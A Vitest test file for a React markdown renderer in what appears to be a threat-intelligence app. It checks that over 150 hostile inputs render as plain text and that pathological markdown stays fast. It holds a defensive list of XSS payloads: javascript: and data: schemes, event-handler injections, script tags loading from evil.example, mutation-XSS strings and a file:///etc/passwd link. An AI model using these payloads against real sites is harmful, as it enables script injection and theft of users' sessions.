import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { numberCitations } from './citations.ts';
import { MarkdownContext } from './markdown-context.ts';
import { MARKDOWN_MAX, readsAsMarkdown } from './markdown-limits.ts';
import { MarkdownView } from './markdown-view.tsx';
import { processorMs } from '../../build/dev/processor-time.ts';

const render = (text: string, known = new Map()): string => {
  const { markdown, citations } = numberCitations(text, [{ source_name: 'Known', url: 'https://evil.example' }]);
  return renderToStaticMarkup(
    <MarkdownContext value={{ citations, known, onCite: () => undefined }}>
      <MarkdownView markdown={markdown} />
    </MarkdownContext>,
  );
};

const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'app://core/staged/x',
  '//evil.example',
  'https://evil.example',
  'blob:https://evil.example/1',
  'view-source:javascript:1',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
  'onbeforeinput',
];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'iframe src=javascript:alert(1)',
  'input autofocus',
  'details open',
  'video src=x',
  'math',
  'a href=javascript:alert(1)',
  'style',
];
const PAYLOADS = [
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=alert(1)>`)),
  ...SCHEMES.flatMap((scheme) => [`[click](${scheme})`, `![image](${scheme})`, `<${scheme}>`, `[ref]\n\n[ref]: ${scheme} "title"`]),
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<object data=x></object>',
  '<embed src=x>',
  '<form action=//evil.example><button>go</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<code><img src=x onerror=alert(1)></code>',
  '<code>`</code><img src=x onerror=alert(1)><code>`</code>',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '(Citation: <img src=x onerror=alert(1)>)',
  '(Citation: Known)[x](javascript:alert(1))',
  'www.evil.example and https://evil.example/bare and a@evil.example',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '- [ ] <img src=x onerror=alert(1)>',
  '<a title="x" href="https://evil.example">x</a>',
  '&lt;img src=x onerror=alert(1)&gt;',
];

/** What may stand in the page; everything else would be markup of the stranger. */
const ALLOWED_TAG =
  /^(?:p|em|strong|del|code|pre|blockquote|br|hr|ul|ol|li|h4|table|thead|tbody|tr|th|td|div|span|sup|button|section|svg|path)$/;
const ALLOWED_ATTRIBUTE =
  /^(?:class|type|title|role|tabindex|draggable|start|style|aria-[a-z]+|data-footnotes|data-object|width|height|viewbox|fill|stroke|stroke-width|stroke-linecap|stroke-linejoin|focusable|d)$/;

/** Reads rendered markup, in which React has escaped every text and attribute value. */
function strangers(html: string): string[] {
  const found: string[] = [];
  for (const [, tag = '', attributes = ''] of html.matchAll(/<([a-z0-9]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi)) {
    if (!ALLOWED_TAG.test(tag)) found.push(tag);
    for (const [, name = '', value = ''] of attributes.matchAll(/\s+([^\s=>]+)(?:="([^"]*)")?/g)) {
      if (!ALLOWED_ATTRIBUTE.test(name.toLowerCase()) || (name === 'style' && !/^text-align:(?:left|right|center)$/.test(value)))
        found.push(`${tag}@${name}=${value}`);
    }
  }
  return found;
}

test(`${PAYLOADS.length} hostile texts become nothing but text`, () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(150);
  for (const payload of PAYLOADS) expect(strangers(render(payload)), payload).toEqual([]);
});

test('the check itself sees what it has to see', () => {
  expect(strangers('<p><img src="x" onerror="alert(1)"/></p>')).toEqual(['img', 'img@src=x', 'img@onerror=alert(1)']);
  expect(strangers('<span href="x">')).toEqual(['span@href=x']);
});

test('raw HTML is shown as it was written, only <code> means something', () => {
  expect(render('a <b>bold</b> claim')).toBe('<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>');
  expect(render('run <code>cmd /c <x></code>')).toBe('<p>run <code>cmd /c &lt;x&gt;</code></p>');
});

test('a link to a known object opens inside, any other is text with a menu', () => {
  const ref = { id: 'intrusion-set--1', type: 'intrusion-set', name: 'APT29' };
  const text = '[APT29](https://attack.mitre.org/groups/G0016)';
  expect(render(text, new Map([['https://attack.mitre.org/groups/G0016', ref]]))).toContain('role="link"');
  const unknown = render(text);
  expect(unknown).toContain('aria-haspopup="menu"');
  expect(unknown).toContain('attack[.]mitre[.]org');
  expect(unknown).not.toContain('https://');
});

test('a mention opens its object, and shows what it is; half an id is text', () => {
  const id = 'intrusion-set--6c1a0e3e-2b1d-4c6f-9d55-7c5a1b3c9a01';
  const html = render(`[Reef](stix:${id}) and [x](stix:${id}x) and [y](stix:javascript:alert(1))`);
  expect(html.match(/role="link"/g)).toHaveLength(1);
  expect(html).toContain(`title="${id}"`);
  expect(strangers(html)).toEqual([]);
  expect(strangers(render(`[<img src=x onerror=alert(1)>](stix:${id})`))).toEqual([]);
});

test('a citation is a numbered button that names its source', () => {
  expect(render('It is so.(Citation: Known)')).toMatch(
    /<p>It is so\.<sup><button type="button"[^>]*aria-label="Source 1: Known"[^>]*>1<\/button><\/sup><\/p>/,
  );
});

test('the worst markdown of the longest length is read in a moment of processor time, and nesting without end is not read at all', async () => {
  const pieces = [
    '[',
    '![',
    '*a_ ',
    '`',
    '> ',
    '- ',
    '1. ',
    '<',
    '[a](',
    '**',
    '|-',
    '&',
    'a@a.a ',
    'www.a.a ',
    '~~a',
    '[^',
    '\\',
    '_a*',
    '>- ',
    '\n> ',
    '[a',
    '*',
    '- a\n  ',
  ];
  let read = 0;
  const SLOW_MS = 1000;
  const slow: string[] = [];
  for (const piece of pieces) {
    let text = piece.repeat(Math.floor(MARKDOWN_MAX / piece.length));
    // the longest of its kind that is read
    while (text.length > 200 && !readsAsMarkdown(text)) text = piece.repeat(Math.floor(text.length / piece.length / 2));
    if (!readsAsMarkdown(text)) continue;
    read += 1;
    const cost = await processorMs(() => render(text), SLOW_MS);
    if (cost >= SLOW_MS) slow.push(`${JSON.stringify(piece)}: ${Math.round(cost)} ms`);
  }
  expect(read).toBeGreaterThan(15);
  expect(slow).toEqual([]);
});
